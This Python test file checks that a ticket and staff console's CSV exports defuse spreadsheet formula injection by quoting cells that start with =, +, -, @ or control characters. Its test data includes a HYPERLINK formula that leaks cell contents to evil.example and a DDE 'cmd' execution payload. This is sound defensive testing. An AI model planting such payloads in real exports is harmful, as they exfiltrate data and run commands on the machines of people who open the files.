"""Every CSV the console or the command line writes is safe to open in a spreadsheet: a cell
a resident or an importer wrote never runs as a formula (OWASP CSV injection)."""
import csv
import io

import pytest

from store import csvfile, people_io
from store.import_rows import Rows
from store.models import Staff


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_starts_like_a_formula_is_text(cell):
    assert csvfile.neutralise(cell) == "'" + cell
    assert csvfile.restore(csvfile.neutralise(cell)) == cell


def test_numbers_and_ordinary_text_are_left_alone():
    for cell in ("-120.15", "+86", "42", "楼道灯坏了", "", "a=b", 7, None):
        assert csvfile.neutralise(cell) == cell


def login(client, username):
    return client.post("/console/login", data={"username": username, "password": "griddesk"})


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example","点我")楼道灯坏了',
                                  "@SUM(1+1)小区路灯不亮", "-1+2 垃圾没人清运"])
def test_the_ticket_export_neutralises_what_residents_wrote(client, chat, svc, text):
    assert chat.send(text).startswith("已受理")
    login(client, "district")
    body = client.get("/console/export/tickets.csv?tab=all").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))) for cell in row]
    assert "'" + text in cells
    assert all(not cell.startswith(csvfile.FORMULA_START) for cell in cells)


def test_the_assessment_export_neutralises_names(client, demo, svc, chat):
    with svc.db.transaction() as session:
        session.query(Staff).filter_by(username="worker01").one().name = "=cmd|' /C calc'!A0"
    chat.send("楼道灯坏了")
    login(client, "district")
    body = client.get("/console/export/assessment.csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))) for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells
    assert all(not cell.startswith(csvfile.FORMULA_START) for cell in cells)


def test_a_registry_export_is_safe_and_reads_back_unchanged(svc, demo):
    with svc.db.transaction() as session:
        session.query(Staff).filter_by(username="worker02").one().name = "@王芳"
    out = io.StringIO()
    with svc.db.sessions() as session:
        people_io.export_staff(session, out)
    assert "'@王芳" in out.getvalue()
    read = Rows(io.StringIO(out.getvalue()), "staff.csv", required=people_io.STAFF_COLUMNS,
                known=people_io.STAFF_COLUMNS)
    names = {row["username"]: row["name"] for _, row in read}
    assert names["worker02"] == "@王芳"  # an import reads the name, not the quote
